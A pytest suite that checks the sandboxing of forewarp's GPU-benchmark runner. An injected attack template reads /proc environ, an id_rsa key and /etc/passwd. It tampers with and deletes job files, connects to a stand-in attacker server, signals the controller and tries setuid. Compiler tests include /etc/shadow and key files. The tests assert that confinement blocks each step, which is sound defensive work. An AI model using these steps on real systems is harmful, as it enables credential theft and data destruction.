"""A task's own code is confined like a candidate: what an attacker's file tries in every job; what compilers read."""

from __future__ import annotations

import http.server
import os
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from support.small_tasks import BODY, PLAN, REFERENCE, SIGNATURE, cpp, cuda, module, small_task

from forewarp.core.errors import TaskError
from forewarp.core.values import Candidate, Task, Workload
from forewarp.gpu_runner.compilers import nvrtc
from forewarp.gpu_runner.devices import detect_cpu, detect_cuda
from forewarp.gpu_runner.executors.local import LocalExecutor
from forewarp.gpu_runner.formats import kernelbot
from forewarp.gpu_runner.worker import linux, task_confinement
from forewarp.gpu_runner.worker.environment import READABLE
from forewarp.gpu_runner.worker.protections import Confinement

KEY = "sk-planted-0123456789"


def _landlock() -> bool:
    try:
        return linux.landlock_version() > 0
    except OSError:
        return False


pytestmark = pytest.mark.skipif(not _landlock(), reason="Landlock is not to be had here")

WEIGHT = "self.weight = nn.Parameter(torch.empty(256))"
PLACES = ("import", "get_inputs", "init", "forward")
PROTECTIONS = ("no network", "read-only files", "no private files", "system calls filtered", "no new privileges")

ATTACK = '''
import glob, os, shutil, socket

def attack(place):
    """Say in a file that the attacker's server can be told, and in one beside the workspace, what can be had."""
    loot = []
    for path in glob.glob("/proc/[0-9]*/environ") + [{secret!r}, "/etc/passwd"]:
        try:
            with open(path, "rb") as file:
                text = file.read()
        except OSError:
            continue
        if {key!r}.encode() in text or path == "/etc/passwd":
            loot.append("read " + path)
    for path in ({outside!r} + place, {jobs!r} + "/budget.json", "/tmp/forewarp-" + place):
        try:
            with open(path, "w") as file:
                file.write("reset")
        except OSError:
            continue
        loot.append("wrote " + path)
    shutil.rmtree({jobs!r}, ignore_errors=True)
    try:
        with socket.create_connection(("127.0.0.1", {port}), 1) as line:
            line.sendall(("GET /" + place + " HTTP/1.0\\r\\n\\r\\n").encode())
        loot.append("connected")
    except OSError:
        pass
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid == {controller}:
            try:
                os.kill(pid, 0)
                loot.append("reached the controller")
            except OSError:
                pass
    try:
        os.setuid(0)
        open("/proc/sys/kernel/hostname", "w").close()
        loot.append("is the superuser")
    except OSError:
        pass
    if loot:
        raise AssertionError(place + ": " + "; ".join(loot))

attack("import")
'''


@dataclass(frozen=True, slots=True)
class Victim:
    """What an attacker is after: a key in a file and in a process's variables, a folder of jobs, a server."""

    folder: Path
    port: int
    heard: list[str]

    @property
    def secret(self) -> Path:
        return self.folder / "id_rsa"

    @property
    def jobs(self) -> Path:
        return self.folder / "jobs"

    def attack(self) -> str:
        """Return the code that goes for it."""
        return ATTACK.format(
            secret=str(self.secret),
            key=KEY,
            outside=str(self.folder / "written-"),
            jobs=str(self.jobs),
            port=self.port,
            controller=os.getpid(),
        )

    def task(self, *places: str) -> Task:
        """Return the small task with an attack at each of these places."""
        text = REFERENCE
        if "get_inputs" in places:
            text = text.replace("return [torch.randn", 'attack("get_inputs"); return [torch.randn')
        if "init" in places:
            text = text.replace("super().__init__()", 'super().__init__(); attack("init")')
        if "forward" in places:
            text = text.replace("return torch.softmax", 'attack("forward"); return torch.softmax')
        return small_task(self.attack() + text)

    def check(self) -> None:
        """Assert that nothing has happened to it."""
        assert self.heard == []
        assert (self.jobs / "budget.json").read_text() == "spent"
        assert sorted(p.name for p in self.folder.iterdir()) == ["id_rsa", "jobs"]
        assert not [p for p in PLACES if Path(f"/tmp/forewarp-{p}").exists()]


@pytest.fixture
def victim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Victim]:
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    folder = tmp_path / "victim"
    (folder / "jobs").mkdir(parents=True)
    (folder / "jobs" / "budget.json").write_text("spent")
    (folder / "id_rsa").write_text(KEY)
    folder.chmod(0o777)  # what the user may do, and the file system alone does not forbid anybody
    (folder / "jobs").chmod(0o777)
    for parent in tmp_path.parents[:3]:
        if parent.owner() == folder.owner() and parent != Path("/tmp"):
            parent.chmod(0o755)
    tmp_path.chmod(0o755)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        # A process that was started with the key; of this one, the kernel shows what it was started with.
        monkeypatch.setenv("SOME_API_KEY", KEY)
        holder = os.posix_spawn("/bin/sleep", ["sleep", "600"], os.environ)
        try:
            yield Victim(folder, server.server_address[1], heard)
        finally:
            os.kill(holder, 9)
            os.waitpid(holder, 0)
            server.shutdown()
            for place in PLACES:
                Path(f"/tmp/forewarp-{place}").unlink(missing_ok=True)


def test_the_attack_works_where_nothing_is_confined(victim: Victim) -> None:
    names: dict[str, object] = {}
    with pytest.raises(AssertionError) as e:
        exec(victim.attack(), names)
    for loot in ("environ", "read /etc/passwd", "written-import", "budget.json", "connected", "reached the controller"):
        assert loot in str(e.value)
    assert KEY in victim.secret.read_text()
    assert not victim.jobs.exists()


@pytest.mark.parametrize("verb", ["describe", "validate", "measure"])
def test_a_task_can_do_no_harm(cpu_executor: LocalExecutor, victim: Victim, verb: str) -> None:
    task = victim.task(*PLACES)
    cpu_executor.describe(task)
    if verb == "validate":
        assert all(not r.problems for r in cpu_executor.validate(task))
    if verb == "measure":
        build = cpu_executor.compile(task, cpp())
        result = cpu_executor.measure(task, cpp(), build)
        assert result.status == "ok", result.log
        around_task = [p for p in result.protections if p.startswith("task's code confined: ")]
        assert len(around_task) == 1
        for protection in PROTECTIONS:
            assert protection in around_task[0]
    victim.check()


def _with_one_shape(task: Task) -> Task:
    return replace(task, workloads={kind: workloads[:1] for kind, workloads in task.workloads.items()})


def test_a_task_measured_with_a_module_can_do_no_harm(cpu_executor: LocalExecutor, victim: Victim) -> None:
    task = _with_one_shape(victim.task(*PLACES))
    candidate = module("        return torch.softmax(x * self.weight + self.bias, -1)", WEIGHT)
    result = cpu_executor.measure(task, candidate, cpu_executor.compile(task, candidate))
    assert result.status == "ok", result.log
    victim.check()


def test_a_traced_module_and_its_task_can_do_no_harm(h200_executor: LocalExecutor, victim: Victim) -> None:
    task = victim.task(*PLACES)
    top = f"{victim.attack()}"
    candidate = module('        attack("forward")\n        return torch.relu(x)', 'attack("init")', top)
    for trace in h200_executor.trace(task, candidate).workloads.values():
        assert trace.problems == ()
    victim.check()


def test_a_checked_task_can_do_no_harm(h200_executor: LocalExecutor, victim: Victim) -> None:
    candidate = module("        return torch.softmax(x * self.weight + self.bias, -1)")
    check = h200_executor.check(victim.task(*PLACES), candidate, 5.0)
    assert "AssertionError" not in check.message
    assert "cannot be run" not in check.message
    victim.check()


def test_a_gpu_mode_task_and_its_helpers_can_do_no_harm(
    cpu_executor: LocalExecutor, victim: Victim, tmp_path: Path
) -> None:
    folder = tmp_path / "task"
    folder.mkdir()
    (folder / "task.yml").write_text(
        "files:\n  - {name: reference.py, source: reference.py}\n  - {name: task.py, source: task.py}\n"
        "  - {name: submission.py, source: '@SUBMISSION@'}\nlang: py\ndescription: doubles\n"
        "tests:\n  - {n: 64, seed: 1}\nbenchmarks:\n  - {n: 64, seed: 1}\n"
    )
    (folder / "task.py").write_text(victim.attack() + "\ninput_t = output_t = object\n")
    (folder / "reference.py").write_text(
        "import torch\nfrom task import attack\n"
        'def generate_input(n, seed):\n    attack("get_inputs")\n    torch.manual_seed(seed)\n'
        "    return torch.randn(n)\n"
        'def ref_kernel(data):\n    attack("forward")\n    return data * 2\n'
        'def check_implementation(data, output):\n    attack("init")\n'
        "    return True, ''\n"
    )
    task = kernelbot.load(folder / "task.yml")
    task = replace(task, workloads={"cpu": next(iter(task.workloads.values()))})
    assert len(cpu_executor.describe(task)) == len(task.workloads["cpu"])
    cpu_executor.validate(task)
    victim.check()


def test_an_attack_that_is_found_out_is_the_references_own_error(cpu_executor: LocalExecutor, tmp_path: Path) -> None:
    secret = tmp_path / "weights.pt"
    secret.write_text("numbers")
    task = small_task(f"open({str(secret)!r}).read()\n{REFERENCE}")
    with pytest.raises(TaskError, match=r"No such file|Permission denied") as e:
        cpu_executor.describe(task)
    assert READABLE in str(e.value.hint)


def test_relative_paths_begin_in_the_first_folder_that_may_be_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "bias.txt").write_text("0.5")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(READABLE, ".")
    reading = 'float(open("bias.txt").read())'
    executor = LocalExecutor(detect_cpu())
    try:
        task = small_task(REFERENCE.replace("return [0.5]", f"return [{reading}]"))
        candidate = Candidate(
            f"import sys\n{REFERENCE}\n\nModelNew = Model\nopen('bias.txt')\nassert not sys.argv[1:]\n", "python"
        )
        measured = executor.measure(task, candidate, executor.compile(task, candidate))
    finally:
        executor.close()
    assert measured.status == "ok", measured.log


def test_a_reference_that_fails_or_crashes_is_told_as_its_own(cpu_executor: LocalExecutor) -> None:
    with pytest.raises(TaskError, match="NameError: name 'nonsense'"):
        cpu_executor.describe(small_task(f"{REFERENCE}\nnonsense\n"))
    with pytest.raises(TaskError, match="SIGSEGV"):
        cpu_executor.describe(small_task(f"import ctypes\nctypes.string_at(0)\n{REFERENCE}"))
    with pytest.raises(TaskError, match="left with exit status 7"):
        cpu_executor.describe(small_task(f"import os\nos._exit(7)\n{REFERENCE}"))


def test_folders_of_jobs_go_with_them(cpu_executor: LocalExecutor) -> None:
    cpu_executor.describe(small_task())
    task = small_task(f"open('left', 'w').write('x')\n{REFERENCE}")
    scratch = vars(cpu_executor)["_worker"]._server._scratch
    before = list(scratch.temporary.iterdir())  # what torch itself makes once
    cpu_executor.describe(task)
    cpu_executor.measure(task, cpp(), cpu_executor.compile(task, cpp()))
    assert [p for p in scratch.path.iterdir() if p.is_dir()] == [scratch.temporary]
    assert list(scratch.temporary.iterdir()) == before


def test_a_driver_is_tried_once_and_what_it_bears_is_remembered(tmp_path: Path) -> None:
    job, other = tmp_path / "job1", tmp_path / "job2"
    for folder in (job, other):
        folder.mkdir()
    how = Confinement(str(job), drop_user=False)
    if not Path("/dev/nvidiactl").exists():
        assert not task_confinement.driver_bears(job, how)
    (tmp_path / "cuda-confinement").write_text("full")
    assert task_confinement.driver_bears(other, how)


@pytest.mark.gpu
def test_a_launcher_serves_one_task_and_is_confined(victim: Victim) -> None:
    target = detect_cuda()
    assert target is not None
    executor = LocalExecutor(target)
    pids: list[int] = []
    try:
        for task in (victim.task(*PLACES), victim.task(*PLACES), small_task()):
            result = executor.measure(task, cuda(), executor.compile(task, cuda()))
            assert result.status == "ok", result.log
            pids.append(vars(vars(executor)["_launcher"])["_session"].pid)
    finally:
        executor.close()
    assert pids[0] == pids[1] != pids[2]
    victim.check()


@pytest.mark.gpu
def test_a_module_measured_on_a_gpu_has_a_confined_judge(victim: Victim) -> None:
    target = detect_cuda()
    assert target is not None
    executor = LocalExecutor(target)
    try:
        task = _with_one_shape(victim.task(*PLACES))
        candidate = module("        return torch.softmax(x * self.weight + self.bias, -1)", WEIGHT)
        result = executor.measure(task, candidate, executor.compile(task, candidate))
        assert result.status == "ok", result.log
        assert any(p.startswith("task's code confined: ") for p in result.protections)
    finally:
        executor.close()
    victim.check()


# Compilers.

TRITON = '''"""forewarp
inputs = ["x"]
outputs = ["y"]
[[launch]]
kernel = "k"
grid = ["1"]
args = ["x", "y"]
"""
import triton

@triton.jit
def k(x, y):
    pass

'''
UNREADABLE = re.compile("No such file|Permission denied")


def _refused(executor: LocalExecutor, task: Task, candidate: Candidate) -> str:
    build = executor.compile(task, candidate)
    assert build.status == "compile_error"
    assert KEY not in build.log
    return build.log


@pytest.fixture
def key(tmp_path: Path) -> Path:
    path = tmp_path / "id_rsa"
    path.write_text(KEY)
    return path


@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/passwd", "KEY"])
def test_cpp_includes_no_private_file(cpu_executor: LocalExecutor, key: Path, path: str) -> None:
    path = str(key) if path == "KEY" else path
    source = f'{PLAN}#include "{path}"\n{SIGNATURE} {{{BODY}}}\n'
    assert UNREADABLE.search(_refused(cpu_executor, small_task(), Candidate(source, "cpp", {"UNROLL": 1})))


@pytest.mark.parametrize("path", ["/etc/passwd", "KEY"])
def test_the_assembler_takes_in_no_private_file(cpu_executor: LocalExecutor, key: Path, path: str) -> None:
    path = str(key) if path == "KEY" else path
    source = f'{PLAN}asm(".incbin \\"{path}\\"");\n{SIGNATURE} {{{BODY}}}\n'
    assert path in _refused(cpu_executor, small_task(), Candidate(source, "cpp", {"UNROLL": 1}))


def test_an_extension_includes_no_private_file(cpu_executor: LocalExecutor, key: Path) -> None:
    top = (
        "from torch.utils.cpp_extension import load_inline\n"
        f"load_inline('stolen', ['#include \"{key}\"\\nint f() {{ return 1; }}'], functions=['f'])"
    )
    candidate = module("        return torch.softmax(x, -1)", "", top)
    assert UNREADABLE.search(_refused(cpu_executor, small_task(), candidate))


def test_a_triton_source_opens_no_private_file(h200_executor: LocalExecutor, key: Path) -> None:
    task = Task("t", "", REFERENCE, {"cuda": (Workload("even"),)})
    source = f"{TRITON}print(open({str(key)!r}).read())\n"
    assert UNREADABLE.search(_refused(h200_executor, task, Candidate(source, "triton")))


@pytest.mark.skipif(nvrtc.library() is None, reason="needs NVRTC")
@pytest.mark.parametrize("path", ["/etc/passwd", "KEY"])
def test_nvrtc_includes_no_private_file(h200_executor: LocalExecutor, key: Path, path: str) -> None:
    path = str(key) if path == "KEY" else path
    task = Task("t", "", REFERENCE, {"cuda": (Workload("even"),)})
    source = cuda().source.replace('extern "C"', f'#include "{path}"\nextern "C"', 1)
    assert "open" in _refused(h200_executor, task, Candidate(source, "cuda"))


@pytest.mark.slow
@pytest.mark.parametrize("compiler", ["cpp", "load_inline", "nvrtc", "triton"])
def test_no_compiler_tells_whether_a_private_file_exists(
    cpu_executor: LocalExecutor, h200_executor: LocalExecutor, key: Path, compiler: str
) -> None:
    """Each is asked in its own way, and does not build what is there."""
    if compiler == "nvrtc" and nvrtc.library() is None:
        pytest.skip("needs NVRTC")
    asked = f'#if __has_include("{key}")\n#error it is there\n#endif\n'
    on_gpu = Task("t", "", REFERENCE, {"cuda": (Workload("even"),)})
    executor, task, candidate = {
        "cpp": (cpu_executor, small_task(), Candidate(f"{PLAN}{asked}{SIGNATURE} {{{BODY}}}\n", "cpp", {"UNROLL": 1})),
        "load_inline": (
            cpu_executor,
            small_task(),
            module(
                "        return torch.softmax(x, -1) if ext.f() == 1 else x",
                "",
                "from torch.utils.cpp_extension import load_inline\n"
                f"ext = load_inline('asks', [{asked!r} + 'int f() {{ return 1; }}'], functions=['f'])",
            ),
        ),
        "nvrtc": (
            h200_executor,
            on_gpu,
            Candidate(cuda().source.replace('extern "C"', f'{asked}extern "C"', 1), "cuda"),
        ),
        "triton": (
            h200_executor,
            on_gpu,
            Candidate(f"{TRITON}import os\nassert not os.path.lexists({str(key)!r})\n", "triton"),
        ),
    }[compiler]
    build = executor.compile(task, candidate)
    assert build.status == "ok", build.log
